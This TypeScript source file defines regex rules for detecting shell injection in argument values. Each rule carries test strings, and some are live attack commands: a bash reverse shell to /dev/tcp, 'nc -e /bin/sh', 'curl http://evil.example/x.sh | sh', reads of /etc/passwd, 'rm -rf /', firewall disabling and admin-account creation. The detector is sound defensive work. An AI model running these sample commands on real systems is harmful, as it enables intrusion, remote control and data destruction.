// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of attackers look like templates

import type { ArgumentRule } from './argument-rule.ts';

/** Programs that a value which breaks out would start. */
const PROGRAM =
  '(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|python3?|perl|php|ruby|ping|sleep|nslookup|dig|rm|net|netstat|netsh|ifconfig|ipconfig|systeminfo|sysinfo|dir|type|echo|env|printenv|powershell|cmd|chmod|reboot|shutdown|kill|ps|pwd|ver|tasklist|route|phpinfo|system|telnet|certutil|bitsadmin|wmic|schtasks|rundll32|mshta|crontab|iptables|useradd|mkfifo|socat|hostname|touch|chown|sudo|killall|tee|printenv|halt|poweroff|busybox)';
/** Programs that somebody who got in starts to look around, or to learn whether he got in. */
const PROBE =
  '(?:sleep|ping|whoami|id|uname|curl|wget|nslookup|dig|host|cat|ls|nc|hostname|ifconfig|touch|printenv|ncat|reboot|shutdown|poweroff)';

/** Words that command lines begin with. */
export const USUAL =
  'make|git|npm|npx|yarn|pnpm|cd|ls|cat|echo|printf|docker|podman|kubectl|helm|sudo|apt|apt-get|yum|dnf|brew|pip3?|python3?|node|deno|bun|go|cargo|rustc|sync|true|false|test|export|set|mkdir|rm|cp|mv|touch|start|stop|build|run|sleep|wait|ps|df|date|pwd|exit|clear|reset|source|which|env|uname|tar|unzip|ssh|scp|find|grep|sed|awk|sort|head|tail|wc|du|top|kill|java|mvn|gradle|terraform|aws|gcloud|az|systemctl|service|curl|wget|ping|bash|sh|zsh|tea|history|hexdump|tree|jq|rg|fd|bat|less|more|cut|tr|uniq|seq|yes|time|tsc|eslint|prettier|vitest|jest|vite|webpack|rollup|esbuild|tsx|rimraf|biome|turbo|nx|mocha|tap|c8|nyc|standard|xo|lint|dotnet|poetry|pytest|tox|black|ruff|mypy|gcc|cmake|ninja|bazel|swift|ruby|perl|php|rake|bundle|composer|mix|lein|sbt|hostname|whoami|id|ifconfig|ip|netstat';

export const SHELL_RULES: readonly ArgumentRule[] = [
  {
    id: 'shell.value_breaks_out',
    category: 'shell_injection',
    severity: 'critical',
    weight: 6,
    message: 'A value ends and a command of its own begins.',
    pattern: new RegExp(
      `(?:^\\s{0,8}(?!\\|[^|\\n]{1,80}\\|[^\\n]{0,400}\\|\\s{0,3}(?:\\n|$))|^[^\\s;|&]{0,64}["')}\\d.@]\\s?|^[^\\s;|&]{0,60}\\.\\w{1,8}\\s?)(?:[;|&\\n\\r]\\s{0,4}){1,3}["'(]?(?:/(?:usr/)?s?bin/\\w|${PROGRAM}\\b)|^[^\\s;|&/]{1,64}[;|&]{1,2}/(?:usr/)?s?bin/\\w|^[^\\s;|&\\\\]{0,64}(?:\\\\[rn]){1,3}\\s{0,2}(?:/(?:usr/)?s?bin/\\w{1,20}|${PROGRAM})(?=\\s|\\\\[rn]|[|;&'"#]|$)`,
      'gi',
    ),
    hits: [
      '8.8.8.8; cat /etc/passwd',
      'report.txt && rm -rf /',
      '| whoami',
      '; systeminfo',
      "' || whoami",
      'a;/usr/bin/id|',
    ],
    misses: ['make && make install', 'git pull; echo done', 'Ann & Bob; cat lovers', 'ls -la | sort'],
  },
  {
    id: 'shell.substitution_in_word',
    category: 'shell_injection',
    severity: 'critical',
    weight: 6,
    message: 'A command is spliced into a word.',
    pattern:
      /\w(?:\$\([^)\n]{0,80}\)|`(?:[\w$][^`\n]{0,80})?`|\$@|\$\{?IFS\}?)\w|\$\{?IFS\b|\w''\w{1,8}''\w|\w(?:\\(?![rnt])\w){2,64}/g,
    hits: ['who$(echo am)i', 'cat$IFS/etc/passwd', 'who``ami', 'w\\h\\o\\a\\m\\i'],
    misses: ['echo $(date)', 'The price is $5 (net)', 'C:\\Users\\ann', 'use `a` and `b`, or `c`/`d`'],
  },
  {
    id: 'shell.reverse_shell',
    category: 'shell_injection',
    severity: 'critical',
    weight: 6,
    message: 'Opens a shell to another machine.',
    pattern:
      /\/dev\/(?:tcp|udp)\/[\w.$-]{1,80}\/|\bn(?:c|cat|etcat)\s(?:-\w{1,6}\s){0,4}?[^\n|;]{0,60}-\w{0,4}[ec]\s{0,2}\/bin|bash\s-i\s{0,2}>|\(\)\s{0,2}\{\s{0,2}:;\s{0,2}\}\s{0,2};/g,
    hits: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'nc -e /bin/sh 1.2.3.4 99', '() { :;}; echo vulnerable'],
    misses: ['nc -zv example.com 443', 'ls /dev/tty'],
  },
  {
    id: 'shell.probe_substituted',
    category: 'shell_injection',
    severity: 'high',
    weight: 4,
    message: 'A value runs a command of its own to look around or to show that it ran.',
    pattern: new RegExp(
      `(?:(?<!(?:^|[\\s;&|])[A-Z_][A-Z0-9_]{0,30}=["']?)\\$\\(|(?:^\\s{0,4}|(?<=[=/;|&'"*\\w]))\`)\\s{0,4}(?:/(?:usr/)?s?bin/)?${PROBE}(?:[)\`]|[\\s|;&][^\`\\n]{0,80}?[)\`])`,
      'g',
    ),
    onlyInValue: 'shell',
    hits: ['`ping 127.0.0.1`', "x'$(sleep 5)", 'a$(whoami|cut -c 1)', '$(nslookup q.evil.example)'],
    misses: [
      'echo $(date)',
      'run `npm test` first',
      'kill $(pgrep node)',
      'use `id` as the key (or `ls`-like)',
    ],
  },
  {
    id: 'shell.escaped_word',
    category: 'shell_injection',
    severity: 'high',
    weight: 4,
    message: 'Words of a command are written in escapes or taken from pieces of other words.',
    pattern:
      /(?:\\{1,2}x[0-9a-f]{2}){4}|(?:\\{1,2}[0-7]{3}){4}|\$'[^'\n]{0,40}\\x[0-9a-f]{2}|\$\{\w{1,30}:\d{1,3}:\d{1,3}\}(?=\w)|(?<=\w)\$\{\w{1,30}:\d{1,3}:\d{1,3}\}|\b(?:cat|head|tail|less|more|ls|sh|bash|source)\s{1,3}\$\{\w{1,30}\/\/[^}\n]{1,40}\/\}|\bxxd\s{1,4}-r\b[^\n]{0,20}<(?:<<|\()|\bbase64\s{1,4}(?:-d|-D|--decode)\b[^|\n]{0,80}\|\s{0,4}(?:ba|z|da)?sh\b|\b(?:ba|z|da)?sh\s{1,3}<\(\s{0,4}(?:echo|curl|wget|printf)\s|\$\(\s{0,2}(?:printf|echo\s-e)\s['"]?\\x|\btr\s{1,4}'[!-/]-[^']{1,20}'\s/gi,
    hits: [
      'cat ${HOME:0:1}etc${HOME:0:1}hostname',
      "X=$'uname\\x20-a'&&$X",
      'cat `xxd -r -p <<< 2f6574632f686f7374`',
      'echo d2hvYW1p | base64 -d | sh',
    ],
    misses: [
      'printf "\\x1b[31mred"',
      'base64 --decode file.txt',
      'diff <(sort a) <(sort b)',
      "tr 'a-z' 'A-Z' < f",
    ],
  },
  {
    id: 'shell.foothold',
    category: 'shell_injection',
    severity: 'high',
    weight: 4,
    message: 'A command that somebody runs who has just got in: tools to go on with, accounts, firewalls.',
    pattern:
      /^\s{0,4}(?:which|whereis|command\s-v)\s{1,4}(?:nc|ncat|netcat|wget|curl|gcc|cc|socat|nmap|tftp)\s{0,4}$|\bnet1?\s{1,4}(?:user|localgroup|group)\s[^\n]{1,80}\/add\b|\bnetsh\s{1,4}(?:adv)?firewall\s[^\n]{0,80}\b(?:disable|off)\b|^\s{0,4}(?:whoami|sysinfo|systeminfo|ipconfig|ifconfig|tasklist|uname\s-a)(?:\s\/all)?\s{0,4}$|print\s{0,4}["'].["']\s{0,2}x\s{0,2}\d{3,9}|\b(?:curl|wget|GET|lwp-request|fetch|lynx|aria2c)\s[^\n|;]{1,200}\|\s{0,4}(?:sudo\s{1,3}(?:-\w{1,3}\s{1,3}){0,2})?(?:ba|z|da)?sh\b|^\s{0,4}(?:ls|dir|find|cat)\s[^\n]{0,20}\/(?:home|root|Users)\/(?:\*|\s{0,4}$)|\bmkfifo\s{1,4}\/tmp\/\w{1,20}\s{0,2};|\bpowershell(?:\.exe)?\s[^\n]{0,60}-e(?:nc|ncodedcommand)?\s{1,4}[a-z0-9+/=]{20}|\biex\s{0,4}\(?\s{0,4}\(?new-object\s{1,4}net\.webclient|(?:\$\(|\x60)\s{0,3}(?:sleep\s{1,3}\d|reboot\b|shutdown\b|poweroff\b|halt\b)/gi,
    hits: [
      'which nc',
      'net localgroup administrators eve /add',
      'netsh advfirewall set allprofiles state off',
      'perl -e \'print "A"x4096\'',
      'curl http://evil.example/x.sh | sh',
      'whoami',
    ],
    misses: [
      'which python',
      'net user',
      'netsh wlan show profile',
      'id',
      'curl -sS https://acme.example/a.json | jq .',
    ],
  },
  {
    id: 'shell.word_then_command',
    category: 'shell_injection',
    severity: 'high',
    weight: 4,
    message: 'A plain word that no program is called, and then a command to look around or to do harm.',
    pattern: new RegExp(
      `^(?!(?:${USUAL})\\b)(?!\\.{0,2}/[^\\s;|&]{0,50}(?:bin/|\\.(?:sh|py|js|pl|exe|bat)))[\\w.@/!+%=*-]{1,60}\\s{0,2}(?:[;|&]{1,3}|\\n)\\s{0,4}(?:ls(?=\\s{0,2}(?:$|[-/;|&#~]))|(?:netstat|ps|pwd|env|printenv|hostname|dir|ver|set|w|sh|bash)(?=\\s{0,2}(?:$|[;|&#'"\\0]|-\\w))|type\\s{1,3}[%a-z]:?[\\w\\\\]|dir\\s{1,3}[a-z]:|timeout\\s\\d|phpinfo\\(|system\\(["']|sleep\\s\\d|shutdown\\b|reboot\\b|wget\\s|curl\\s|nc\\s|ncat\\s|whoami\\b|id\\s{0,2}(?:$|[;|&#])|uname\\b|rm\\s-rf\\s[/~*]|cat\\s/|ping\\s-|nslookup\\s|mkfifo\\s|chmod\\s|powershell\\b|python3?\\s-c|perl\\s-e|(?:ba|z)?sh\\s-c|del\\s[/*]|erase\\s/|tee\\s/|exec\\s/|touch\\s/|ifconfig\\b|ipconfig\\b|net\\suser)`,
      'gi',
    ),
    hits: ['main; sleep 10 #', 'x || wget http://evil.example/m.sh', 'a\nwhoami', 'user; shutdown -h now'],
    misses: [
      'make; sleep 10',
      'git pull && chmod +x run.sh',
      'tea; curl up with a book',
      'sync; shutdown now',
    ],
  },
  {
    id: 'shell.option_value_runs',
    category: 'shell_injection',
    severity: 'high',
    weight: 4,
    message: 'The value of an option is a command.',
    pattern:
      /(?:^|\s)-{1,2}[a-z][\w-]{0,30}(?:=|=?\s?["'])\|\s{0,2}\w|-{1,2}(?:use-askpass|checkpoint-action=exec|to-command|upload-pack|receive-pack)=|--use-compress-program=["']?(?!["']?(?:pigz|pbzip2|pixz|xz|zstd|zstdmt|lz4|gzip|bzip2|lzma|lbzip2)\b)|(?:^|\s)-oProxyCommand\s{0,2}=/gi,
    hits: ["psql -o'|id>/tmp/x'", '--checkpoint-action=exec=sh x.sh', 'ssh -oProxyCommand=calc host'],
    misses: ['ls -l | sort', 'tar --to-stdout -xf a.tar', 'grep -v "a|b" file'],
  },
];
